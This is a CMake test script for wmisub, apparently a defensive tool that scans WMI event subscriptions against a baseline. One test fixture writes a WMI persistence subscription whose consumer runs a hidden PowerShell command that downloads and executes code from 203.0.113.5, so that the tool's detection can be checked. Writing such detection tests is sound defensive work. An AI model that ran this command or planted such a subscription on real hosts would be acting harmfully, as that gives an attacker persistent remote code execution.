# The wmisub CLI end to end, as a responder uses it: baseline, diff, a consumer
# that keeps its name but changes its command, scan against the baseline,
# collect and scan a snapshot as NDJSON, a damaged baseline, usage errors, and
# every subcommand's --help. Run with:
#   cmake -DWMISUB=<wmisub binary> -DWORK_DIR=<scratch dir> -P tests/cli_workflow.cmake
file(REMOVE_RECURSE "${WORK_DIR}")
file(MAKE_DIRECTORY "${WORK_DIR}")

# Runs wmisub with ARGN; checks the exit status and that stdout+stderr contain each of EXPECT.
function(run_wmisub expected_status)
    cmake_parse_arguments(PARSE_ARGV 1 ARG "" "" "ARGS;EXPECT;REJECT")
    execute_process(COMMAND "${WMISUB}" ${ARG_ARGS} WORKING_DIRECTORY "${WORK_DIR}"
                    OUTPUT_VARIABLE out ERROR_VARIABLE err RESULT_VARIABLE status)
    set(all "${out}${err}")
    if(NOT status STREQUAL "${expected_status}")
        message(FATAL_ERROR "wmisub ${ARG_ARGS}: exit ${status}, expected ${expected_status}\n${all}")
    endif()
    foreach(text IN LISTS ARG_EXPECT)
        string(FIND "${all}" "${text}" at)
        if(at EQUAL -1)
            message(FATAL_ERROR "wmisub ${ARG_ARGS}: output lacks '${text}'\n${all}")
        endif()
    endforeach()
    foreach(text IN LISTS ARG_REJECT)
        string(FIND "${all}" "${text}" at)
        if(NOT at EQUAL -1)
            message(FATAL_ERROR "wmisub ${ARG_ARGS}: output should not contain '${text}'\n${all}")
        endif()
    endforeach()
    set(last_output "${out}" PARENT_SCOPE)
endfunction()

# An administrator's job: inventory every 4 hours through a vendor agent.
function(write_mof command)
    file(WRITE "${WORK_DIR}/host.mof" "#pragma namespace(\"\\\\\\\\.\\\\root\\\\subscription\")
instance of __IntervalTimerInstruction { TimerId = \"InvTimer\"; IntervalBetweenEvents = 14400000; };
instance of __EventFilter as $F { Name = \"Inventory\"; EventNamespace = \"root\\\\cimv2\"; QueryLanguage = \"WQL\";
    Query = \"SELECT * FROM __TimerEvent WHERE TimerID = 'InvTimer'\"; };
instance of CommandLineEventConsumer as $C { Name = \"Inventory\"; CommandLineTemplate = \"${command}\"; };
instance of __FilterToConsumerBinding { Filter = $F; Consumer = $C; };
")
endfunction()

write_mof("C:\\\\\\\\Program Files\\\\\\\\Contoso\\\\\\\\invagent.exe --refresh")
# collect, baseline, scan and diff count what they read the same way.
set(host_objects "4 objects (1 filter, 1 consumer, 1 binding, 1 timer instruction)")
run_wmisub(0 ARGS baseline --mof host.mof -o baseline.json EXPECT "wrote ${host_objects}")
run_wmisub(0 ARGS collect --mof host.mof -o counted.json EXPECT "wrote ${host_objects}")
run_wmisub(0 ARGS scan --mof host.mof --fail-on never EXPECT "1 subscription from ${host_objects}")
run_wmisub(0 ARGS diff --baseline baseline.json --mof host.mof
           EXPECT "${host_objects} against 4 objects approved: 0 added, 0 removed, 0 modified, 0 re-pointed, 4 unchanged")
run_wmisub(0 ARGS scan --mof host.mof --baseline baseline.json EXPECT "(allow-listed)")

# Same names, new payload: one modified consumer, graded, and the field named.
write_mof("powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')")
run_wmisub(1 ARGS diff --baseline baseline.json --mof host.mof
           EXPECT "1 modified" "CommandLineTemplate" "CommandLineEventConsumer.Name=\"Inventory\"" "[critical]")
run_wmisub(0 ARGS diff --baseline baseline.json --mof host.mof --fail-on never)
run_wmisub(1 ARGS diff --baseline baseline.json --mof host.mof --format json EXPECT "\"schema\": \"wmisub.diff/1\"" "\"severity\": \"critical\"")
run_wmisub(1 ARGS scan --mof host.mof --baseline baseline.json EXPECT "WMISUB-BSL-001" "WMISUB-PAY-001" "was: C:")
run_wmisub(1 ARGS scan --mof host.mof -q EXPECT "== CRITICAL (1) ==" REJECT "wmisub scan:")
# -q --fail-on never: nothing can fail, so nothing but errors is printed, in every format that thins.
foreach(quiet_format text ndjson)
    run_wmisub(0 ARGS scan --mof host.mof --fail-on never -q --format ${quiet_format})
    if(NOT last_output STREQUAL "")
        message(FATAL_ERROR "wmisub scan -q --fail-on never --format ${quiet_format} printed:\n${last_output}")
    endif()
endforeach()

# Collect, then judge the snapshot; NDJSON lines carry ECS names.
run_wmisub(0 ARGS collect --mof host.mof -o snapshot.json -q)
run_wmisub(1 ARGS scan --snapshot snapshot.json --format ndjson --host WS01
           EXPECT "\"kind\":\"alert\"" "\"WMISUB-PAY-001\"" "\"host\":{\"name\":\"WS01\"}" "\"T1546.003\""
                  "\"command_line\":\"powershell.exe" "\"ecs\":{\"version\":\"8.11.0\"}")  # no '[' here: CMake lists
run_wmisub(1 ARGS scan --snapshot snapshot.json --format json EXPECT "\"schema\": \"wmisub.report/1\"" "\"kind\": \"interval_timer\"")

run_wmisub(1 ARGS scan --mof host.mof --format sarif EXPECT "\"version\": \"2.1.0\"" "\"ruleId\": \"WMISUB-PAY-001\"" "\"uri\": \"host.mof\"")

# A damaged baseline is an error, never an empty baseline.
file(READ "${WORK_DIR}/baseline.json" baseline)
string(LENGTH "${baseline}" length)
math(EXPR half "${length} / 2")
string(SUBSTRING "${baseline}" 0 ${half} truncated)
file(WRITE "${WORK_DIR}/truncated.json" "${truncated}")
run_wmisub(2 ARGS diff --baseline truncated.json --mof host.mof EXPECT "corrupt")
string(REPLACE "invagent.exe" "evil.exe" edited "${baseline}")
file(WRITE "${WORK_DIR}/edited.json" "${edited}")
run_wmisub(2 ARGS scan --mof host.mof --baseline edited.json EXPECT "checksum")

# A policy approving what a scan shows: written by `policy allow`, honoured however its
# fingerprints are spelt, and refused whole (exit 2, with the JSON pointer) when it is wrong.
run_wmisub(0 ARGS policy allow --mof host.mof -o policy.json EXPECT "wrote 2 fingerprints approving 1 subscription to")
run_wmisub(0 ARGS scan --mof host.mof --policy policy.json EXPECT "(allow-listed)")
file(READ "${WORK_DIR}/policy.json" policy)
string(REGEX MATCHALL "\"[0-9a-f]+\"" fingerprints "${policy}")
list(GET fingerprints 0 first)
list(GET fingerprints 1 second)
string(TOUPPER "${first}" first_upper)
string(REPLACE "\"" "" first_upper "${first_upper}")
string(REPLACE "\"" "" second "${second}")
file(WRITE "${WORK_DIR}/prefixed.json" "{\"schema\": \"wmisub.policy/1\", \"allowed_fingerprints\": [\"sha256:${first_upper}\", \" sha256:${second}\"]}")
run_wmisub(0 ARGS scan --mof host.mof --policy prefixed.json EXPECT "(allow-listed)")
file(WRITE "${WORK_DIR}/one_half.json" "{\"allowed_fingerprints\": [${first}]}")
run_wmisub(1 ARGS scan --mof host.mof --policy one_half.json REJECT "(allow-listed)")  # both halves are needed
file(WRITE "${WORK_DIR}/misspelt.json" "{\"schema\": \"wmisub.policy/1\", \"disabled_rule\": [\"WMISUB-PAY-001\"]}")
run_wmisub(2 ARGS scan --mof host.mof --policy misspelt.json EXPECT "misspelt.json: /disabled_rule: unknown member")
file(WRITE "${WORK_DIR}/unknown_rule.json" "{\"disabled_rules\": [\"WMISUB-PAY-001\", \"WMISUB-NOPE-001\"]}")
run_wmisub(2 ARGS scan --mof host.mof --policy unknown_rule.json EXPECT "/disabled_rules/1: no rule 'WMISUB-NOPE-001'")
file(WRITE "${WORK_DIR}/short_fp.json" "{\"allowed_fingerprints\": [\"sha256:abc\"]}")
run_wmisub(2 ARGS scan --mof host.mof --policy short_fp.json EXPECT "/allowed_fingerprints/0" "is not a fingerprint")
file(WRITE "${WORK_DIR}/bad_override.json" "{\"severity_overrides\": {\"WMISUB-XYZ\": \"low\"}}")
run_wmisub(2 ARGS scan --mof host.mof --policy bad_override.json EXPECT "/severity_overrides/WMISUB-XYZ: no such rule")
run_wmisub(2 ARGS policy deny --mof host.mof -o x.json EXPECT "unknown action 'deny'")
run_wmisub(2 ARGS policy allow --mof host.mof EXPECT "missing -o FILE")

# An input that cannot be read makes the exit status 2 (named on stderr), even when what was
# read is clean, unless --ignore-unreadable; the rest is still scanned and reported.
file(MAKE_DIRECTORY "${WORK_DIR}/folder")
file(COPY_FILE "${WORK_DIR}/host.mof" "${WORK_DIR}/folder/host.mof")
file(CREATE_LINK "loop.mof" "${WORK_DIR}/folder/loop.mof" RESULT link_result SYMBOLIC)
if(link_result STREQUAL "0")
    run_wmisub(2 ARGS scan --mof folder --fail-on never EXPECT "could not read" "loop.mof" "== CRITICAL (1) ==")
    run_wmisub(0 ARGS scan --mof folder --fail-on never --ignore-unreadable EXPECT "loop.mof")
    run_wmisub(2 ARGS collect --mof folder -o partial.json EXPECT "could not read" "wrote 4 objects")
    run_wmisub(2 ARGS scan --mof folder/loop.mof EXPECT "Too many levels of symbolic links")
endif()

# Many queries at once: one per line or a JSON array, one result per line in ndjson.
file(WRITE "${WORK_DIR}/queries.txt" "SELECT * FROM __TimerEvent WHERE TimerID = 'T'\n# a comment\n\nSELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'a.exe'\n")
run_wmisub(0 ARGS wql --file queries.txt --format ndjson EXPECT "\"kind\":\"interval_timer\"" "\"kind\":\"process_start\"")
file(WRITE "${WORK_DIR}/queries.json" "[\"SELECT * FROM __TimerEvent\", \"SELEKT nothing\"]")
run_wmisub(1 ARGS wql --file=queries.json --format json EXPECT "\"valid\": false")
run_wmisub(2 ARGS wql --file missing.txt EXPECT "missing.txt")
run_wmisub(2 ARGS wql "SELECT * FROM __TimerEvent" --file queries.txt EXPECT "not both")

# Standard input as a source, once.
execute_process(COMMAND "${WMISUB}" scan --mof - --fail-on never INPUT_FILE "${WORK_DIR}/host.mof"
                WORKING_DIRECTORY "${WORK_DIR}" OUTPUT_VARIABLE stdin_out ERROR_VARIABLE stdin_err RESULT_VARIABLE stdin_status)
string(FIND "${stdin_out}" "== CRITICAL (1) ==" stdin_found)
if(NOT stdin_status STREQUAL "0" OR stdin_found EQUAL -1)
    message(FATAL_ERROR "wmisub scan --mof - (standard input): exit ${stdin_status}\n${stdin_out}${stdin_err}")
endif()
execute_process(COMMAND "${WMISUB}" scan --snapshot - --fail-on never INPUT_FILE "${WORK_DIR}/snapshot.json"
                WORKING_DIRECTORY "${WORK_DIR}" OUTPUT_VARIABLE stdin_out RESULT_VARIABLE stdin_status)
string(FIND "${stdin_out}" "Inventory" stdin_found)
if(NOT stdin_status STREQUAL "0" OR stdin_found EQUAL -1)
    message(FATAL_ERROR "wmisub scan --snapshot - (standard input): exit ${stdin_status}\n${stdin_out}")
endif()
run_wmisub(2 ARGS scan --mof - --snapshot - EXPECT "can be read once")
# wql takes its queries from standard input as `-` or `--file -`, one result per line in ndjson.
foreach(stdin_form "-" "--file;-")
    execute_process(COMMAND "${WMISUB}" wql --format ndjson ${stdin_form} INPUT_FILE "${WORK_DIR}/queries.txt"
                    WORKING_DIRECTORY "${WORK_DIR}" OUTPUT_VARIABLE stdin_out RESULT_VARIABLE stdin_status)
    string(REGEX MATCHALL "\"valid\":true" stdin_valid "${stdin_out}")
    list(LENGTH stdin_valid stdin_valid_count)
    if(NOT stdin_status STREQUAL "0" OR NOT stdin_valid_count EQUAL 2)
        message(FATAL_ERROR "wmisub wql ${stdin_form} (standard input): exit ${stdin_status}\n${stdin_out}")
    endif()
endforeach()

# Options as people type them: --opt=value for sources too.
run_wmisub(1 ARGS scan --mof=host.mof EXPECT "== CRITICAL (1) ==")
run_wmisub(2 ARGS scan --mof= EXPECT "--mof needs at least one path")

# Usage errors: one line, exit 2.
run_wmisub(2 ARGS scan --mof host.mof --bogus EXPECT "unknown option '--bogus'")
run_wmisub(2 ARGS scan --mof missing.mof EXPECT "missing.mof")
run_wmisub(2 ARGS scan --events log.evtx EXPECT "--events")
run_wmisub(2 ARGS scan --mof host.mof --format xml EXPECT "unknown format 'xml'")
run_wmisub(2 ARGS diff --mof host.mof EXPECT "missing --baseline")
run_wmisub(2 ARGS frobnicate EXPECT "unknown command 'frobnicate'")

# Every subcommand answers --help with its usage.
foreach(command scan collect baseline diff wql rules policy)
    run_wmisub(0 ARGS ${command} --help EXPECT "usage: wmisub")
endforeach()
run_wmisub(0 ARGS --version EXPECT "wmisub 0.")
message(STATUS "wmisub CLI workflow: all checks passed")
